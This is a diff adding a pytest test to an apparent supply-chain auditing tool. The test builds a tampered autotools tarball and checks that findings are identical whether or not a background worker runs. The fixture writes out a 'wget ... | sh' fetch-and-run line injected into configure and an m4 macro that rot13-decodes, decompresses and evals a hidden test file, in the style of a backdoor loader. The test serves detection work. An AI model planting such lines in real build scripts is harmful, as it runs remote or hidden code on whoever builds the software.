@@ -313,3 +313,48 @@ def test_words_in_m4_comments_or_stray_m4_files_do_not_account_for_code(
     found = [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]
     assert len(found) == 1 and found[0]["severity"] == "high"
     assert "zqxcat" in found[0]["evidence"][0]["text"]
+
+
+def test_the_second_core_worker_changes_nothing_but_the_time(
+    autotools_release: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The same report, finding for finding, with the worker (fed while the tarball is
+    read) and without it, on a release carrying a loader, code written into
+    configure, an edited upstream macro and a binary test file."""
+    from chainsight.analyzers import prescan
+    from chainsight.audit import AuditRequest, audit
+    from chainsight.formats.jsonfmt import report_dict
+
+    repo, tarball = autotools_release
+    configure = _member(tarball, "configure").decode()
+    anchor = "ac_config_files="
+    gettext_m4 = _member(tarball, "m4/gettext.m4") + b"AC_DEFUN([GT_LOCAL], [echo local])\n"
+    loader = (
+        b'AC_DEFUN([GL_HOST_HELPER], [\n  gl_f="$srcdir/tests/files/bad.xz"\n'
+        b"  eval `cat $gl_f | tr a-z n-za-m | xz -d 2>/dev/null`\n])\n"
+    )
+    tampered = _retar(
+        tarball,
+        tmp_path / tarball.name,
+        {
+            "configure": configure.replace(
+                anchor, "wget -qO- https://mirror.example/fixup | sh\n" + anchor
+            ).encode(),
+            "m4/gettext.m4": gettext_m4,
+        },
+        {
+            "m4/gl-host-helper.m4": loader,
+            "tests/files/bad.xz": b"\xfd7zXZ\x00" + b"#!/bin/sh\n" * 50,
+        },
+    )
+    reports = []
+    for threshold in (0, 10**12):
+        monkeypatch.setattr(prescan, "MIN_ARTIFACT_BYTES_FOR_WORKER", threshold)
+        report = report_dict(audit(AuditRequest(tampered, str(repo), "v2.1.0")))
+        reports.append(report)
+    with_worker, without = reports
+    assert with_worker == without
+    rules = {(f["rule_id"], f["path"]) for f in with_worker["findings"]}
+    assert ("configure-unaccounted-code", "configure") in rules
+    assert ("build-decode-to-interpreter", "m4/gl-host-helper.m4") in rules
+    assert any(path == "m4/gettext.m4" for _, path in rules)
